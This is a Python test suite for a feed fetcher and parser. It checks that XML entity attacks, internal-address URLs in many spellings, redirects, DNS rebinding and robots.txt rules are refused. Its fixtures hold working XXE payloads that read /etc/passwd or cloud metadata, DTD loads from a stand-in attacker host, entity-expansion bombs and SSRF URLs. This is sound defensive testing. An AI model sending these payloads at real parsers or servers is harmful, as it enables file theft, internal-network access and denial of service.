"""Hostile feeds and feed URLs against eventwire/feeds (`eventwire watch`): XML entity tricks in
every form, addresses that reach inside the network in every spelling, redirects to them or to other
schemes. tests/test_watch.py has the basic cases (one XXE, billion laughs, a 169.254 hop, a loop);
these widen them, and the parser is fuzzed."""

from __future__ import annotations

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from eventwire.feeds import FeedError, Fetcher, FetchError, parse_feed
from eventwire.feeds.fetch import is_public_address

RSS_ITEM = "<item><title>Talks</title><link>http://news.example/a</link></item>"
ENTITY_FEEDS = {
    "external file": '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                     '<rss><channel><title>&x;</title>' + RSS_ITEM + "</channel></rss>",
    "external url": '<!DOCTYPE rss [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
                    "<rss><channel><title>&x;</title></channel></rss>",
    "parameter entity": '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
                        "<rss><channel></channel></rss>",
    "external dtd": '<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd"><rss><channel></channel></rss>',
    "billion laughs": '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
        + ']><rss><channel><title>&lol9;</title></channel></rss>',
    "quadratic blowup": '<!DOCTYPE rss [<!ENTITY a "' + "x" * 50_000 + '">]><rss><channel><title>'
                        + "&a;" * 5_000 + "</title></channel></rss>",
    "internal entity": '<!DOCTYPE rss [<!ENTITY t "Talks">]><rss><channel><title>&t;</title></channel></rss>',
}


@pytest.mark.parametrize("name", list(ENTITY_FEEDS))
def test_feeds_with_entities_or_a_dtd_are_refused(name: str) -> None:
    for encoding in ("utf-8", "utf-16"):
        content = ENTITY_FEEDS[name].encode(encoding)
        with pytest.raises(FeedError, match="unsafe|DTD|entit|well-formed"):
            parse_feed(content)


FEEDISH = st.lists(st.one_of(
    st.sampled_from(["<rss>", "</rss>", "<channel>", "</channel>", "<item>", "</item>", "<title>", "</title>",
                     "<link>", "</link>", "http://x/", "<feed xmlns='http://www.w3.org/2005/Atom'>", "</feed>",
                     "<entry>", "</entry>", "<link href='/a'/>", "<pubDate>Wed, 01 May 2024 08:00:00 GMT</pubDate>",
                     "<![CDATA[", "]]>", "&amp;", "&#0;", "&#xD800;", "<!DOCTYPE x>", "<?xml version='1.0'?>", "\x00"]),
    st.text(max_size=20)), max_size=40).map("".join)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(FEEDISH, st.sampled_from([None, "http://news.example/feed.xml", "not a url", "javascript:alert(1)"]))
def test_feed_parser_raises_only_feed_error(text: str, base: str | None) -> None:
    try:
        feed = parse_feed(text.encode("utf-8", "surrogatepass"), base)
    except FeedError as exc:
        assert str(exc)
        return
    for item in feed.items:
        assert item.url is None or isinstance(item.url, str)


@pytest.mark.parametrize("address", [
    "127.0.0.1", "127.255.0.9", "10.1.2.3", "172.16.0.1", "172.31.255.255", "192.168.0.1", "169.254.169.254",
    "100.64.0.1", "100.100.100.200", "0.0.0.0", "255.255.255.255", "224.0.0.251", "::1", "::", "fe80::1",
    "fe80::1%eth0", "fc00::1", "fd12:3456::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "2002:7f00:1::",
    "2002:a9fe:a9fe::1", "64:ff9b::7f00:1", "ff02::1",
])
def test_internal_addresses_are_not_public(address: str) -> None:
    assert not is_public_address(address)


@pytest.mark.parametrize("address", ["93.184.216.34", "8.8.8.8", "2606:4700::1111", "2002:5db8:d822::1"])
def test_public_addresses_are_public(address: str) -> None:
    assert is_public_address(address)


@pytest.mark.parametrize("url", [
    "http://127.0.0.1/feed.xml", "http://localhost:8080/feed.xml", "http://2130706433/", "http://0x7f000001/",
    "http://017700000001/", "http://127.1/", "http://0/", "http://[::1]/feed", "http://[::ffff:127.0.0.1]/",
    "https://169.254.169.254/latest/meta-data/", "http://100.100.100.200/", "http://user@127.0.0.1/",
])
def test_every_spelling_of_an_internal_host_is_refused(url: str) -> None:
    fetcher = Fetcher(min_interval=0.0, obey_robots=False)
    try:
        with pytest.raises(FetchError, match="private/loopback|cannot resolve") as caught:
            fetcher.get(url)
        assert "--allow-private" in str(caught.value) or "cannot resolve" in str(caught.value)
    finally:
        fetcher.close()


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://news.example/feed.xml", "gopher://news.example/",
                                 "javascript:alert(1)", "http:///feed.xml", "//news.example/feed"])
def test_only_http_urls_are_fetched(url: str) -> None:
    fetcher = Fetcher(min_interval=0.0, obey_robots=False, resolve=lambda host: ["93.184.216.34"])
    with pytest.raises(FetchError, match="only http"):
        fetcher.get(url)


@pytest.mark.parametrize("location", ["http://127.0.0.1/admin", "http://[::1]/", "file:///etc/passwd",
                                      "http://internal.example/", "http://100.64.0.7/"])
def test_redirects_to_internal_hosts_or_other_schemes_are_refused(location: str) -> None:
    names = {"news.example": ["93.184.216.34"], "internal.example": ["10.0.0.5"]}
    visited: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        visited.append(str(request.url))
        return httpx.Response(302, headers={"Location": location})

    def resolve(host: str) -> list[str]:
        return names.get(host, [host])

    fetcher = Fetcher(min_interval=0.0, obey_robots=False, resolve=resolve, transport=httpx.MockTransport(handler))
    with pytest.raises(FetchError, match="private/loopback|only http"):
        fetcher.get("http://news.example/feed.xml")
    assert visited == ["http://news.example/feed.xml"], "the internal target was never requested"


def test_redirect_loops_stop_at_the_cap_without_touching_the_target_again() -> None:
    hits: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        hits.append(request.url.path)
        return httpx.Response(301, headers={"Location": request.url.path})  # redirects to itself

    fetcher = Fetcher(min_interval=0.0, obey_robots=False, max_redirects=3,
                      resolve=lambda host: ["93.184.216.34"], transport=httpx.MockTransport(handler))
    with pytest.raises(FetchError, match="more than 3 redirects"):
        fetcher.get("http://news.example/loop")
    assert len(hits) == 4


def test_allow_private_is_an_explicit_opt_in() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=b"<rss><channel></channel></rss>")

    closed = Fetcher(min_interval=0.0, obey_robots=False, transport=httpx.MockTransport(handler))
    with pytest.raises(FetchError):
        closed.get("http://127.0.0.1/feed.xml")
    opened = Fetcher(min_interval=0.0, obey_robots=False, allow_private=True, transport=httpx.MockTransport(handler))
    assert opened.get("http://127.0.0.1/feed.xml").status == 200


class _Pages:
    """A loopback HTTP server answering every GET with a small feed (written for the eventwire project)."""

    def __enter__(self) -> _Pages:
        import http.server
        import threading

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                body = b"<rss><channel><title>Written for eventwire tests</title></channel></rss>"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.hits = 0
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_connections_go_through_the_vetted_resolver() -> None:
    # "feeds.test" is in no DNS: only the fetcher's own resolver can lead the socket to the server
    with _Pages() as pages:
        fetcher = Fetcher(min_interval=0.0, obey_robots=False, allow_private=True,
                          resolve=lambda host: ["127.0.0.1"] if host == "feeds.test" else [])
        try:
            result = fetcher.get(f"http://feeds.test:{pages.port}/feed.xml")
        finally:
            fetcher.close()
    assert result.status == 200 and b"Written for eventwire tests" in result.content


def test_dns_rebinding_between_check_and_connect_is_refused() -> None:
    lookups: list[str] = []

    def rebinding(host: str) -> list[str]:
        lookups.append(host)
        return ["127.0.0.1"]  # what the name points to by the time the socket is opened

    with _Pages() as pages:
        fetcher = Fetcher(min_interval=0.0, obey_robots=False, resolve=rebinding)
        # the URL checks saw a public address (simulated: they pass); only the connection can still refuse
        fetcher.check_url = lambda url: "rebind.test"  # type: ignore[method-assign]
        try:
            with pytest.raises(FetchError, match="now resolves to 127.0.0.1.*refused"):
                fetcher.get(f"http://rebind.test:{pages.port}/feed.xml")
        finally:
            fetcher.close()
    assert lookups == ["rebind.test"], "the connection resolved the name through the vetted resolver"


def test_robots_txt_is_read_as_rfc_9309_says() -> None:
    # wildcards and the longest matching rule (Protego); the standard library's parser knew neither
    robots = b"User-agent: *\nDisallow: /*.pdf$\nDisallow: /a\nAllow: /a/b\n"

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=robots if request.url.path == "/robots.txt" else b"ok")

    fetcher = Fetcher(min_interval=0.0, resolve=lambda host: ["93.184.216.34"], transport=httpx.MockTransport(handler))
    with pytest.raises(FetchError, match="disallowed by robots.txt"):
        fetcher.get("http://news.example/report.pdf")
    with pytest.raises(FetchError, match="disallowed by robots.txt"):
        fetcher.get("http://news.example/a/c")
    assert fetcher.get("http://news.example/a/b").content == b"ok"
    assert fetcher.get("http://news.example/report.pdf?page=2").content == b"ok"
